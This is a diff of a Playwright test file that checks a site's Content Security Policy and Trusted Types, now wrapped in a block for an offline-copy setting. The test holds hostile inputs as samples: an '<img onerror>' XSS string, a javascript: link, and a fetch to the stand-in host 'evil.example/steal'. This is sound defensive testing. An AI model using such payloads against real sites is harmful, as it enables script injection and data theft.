@@ -152,51 +152,55 @@ test('another site cannot frame a page', async ({ page, complaints, provoked }) 
 /** Messages about violations by the page and its browser, which arrive at different times. */
 const ofViolations = /^Violation of |Content Security Policy|^This document requires 'Trusted/;
 
-test('injected markup, requests to other hosts and script URLs are refused', async ({
-  page,
-  complaints,
-  provoked,
-}) => {
-  provoked.push(ofViolations);
-  await page.goto('/');
-  const outcome = await page.evaluate(async () => {
-    const attempt = async (run: () => unknown) => {
-      try {
-        await run();
-        return 'allowed';
-      } catch {
-        return 'refused';
-      }
-    };
-    const link = document.createElement('a');
-    link.href = "javascript:document.title='taken'";
-    document.body.append(link);
-    link.click();
-    const style = document.createElement('style');
-    style.textContent = 'h1{display:none}';
-    document.head.append(style);
-    return {
-      innerHTML: await attempt(() => {
-        document.body.innerHTML = '<img src=x onerror=alert(1)>';
-      }),
-      request: await attempt(() => fetch('https://evil.example/steal')),
-      worker: await attempt(() => navigator.serviceWorker.register('/assets/other.js')),
-    };
+test.describe('with a copy for visits without a network', () => {
+  test.use({ withOfflineCopy: true });
+
+  test('injected markup, requests to other hosts and script URLs are refused', async ({
+    page,
+    complaints,
+    provoked,
+  }) => {
+    provoked.push(ofViolations);
+    await page.goto('/');
+    const outcome = await page.evaluate(async () => {
+      const attempt = async (run: () => unknown) => {
+        try {
+          await run();
+          return 'allowed';
+        } catch {
+          return 'refused';
+        }
+      };
+      const link = document.createElement('a');
+      link.href = "javascript:document.title='taken'";
+      document.body.append(link);
+      link.click();
+      const style = document.createElement('style');
+      style.textContent = 'h1{display:none}';
+      document.head.append(style);
+      return {
+        innerHTML: await attempt(() => {
+          document.body.innerHTML = '<img src=x onerror=alert(1)>';
+        }),
+        request: await attempt(() => fetch('https://evil.example/steal')),
+        worker: await attempt(() => navigator.serviceWorker.register('/assets/other.js')),
+      };
+    });
+    expect(outcome).toEqual({ innerHTML: 'refused', request: 'refused', worker: 'refused' });
+    await expect(page).not.toHaveTitle('taken');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const directives = () =>
+      complaints.flatMap((complaint) => /^Violation of (\S+):/.exec(complaint)?.[1] ?? []);
+    await expect
+      .poll(directives)
+      .toEqual([
+        'script-src-elem',
+        'style-src-elem',
+        'require-trusted-types-for',
+        'connect-src',
+        'require-trusted-types-for',
+      ]);
   });
-  expect(outcome).toEqual({ innerHTML: 'refused', request: 'refused', worker: 'refused' });
-  await expect(page).not.toHaveTitle('taken');
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-  const directives = () =>
-    complaints.flatMap((complaint) => /^Violation of (\S+):/.exec(complaint)?.[1] ?? []);
-  await expect
-    .poll(directives)
-    .toEqual([
-      'script-src-elem',
-      'style-src-elem',
-      'require-trusted-types-for',
-      'connect-src',
-      'require-trusted-types-for',
-    ]);
 });
 
 test('a violation in another tab is recorded as well', async ({ context, complaints, provoked }) => {
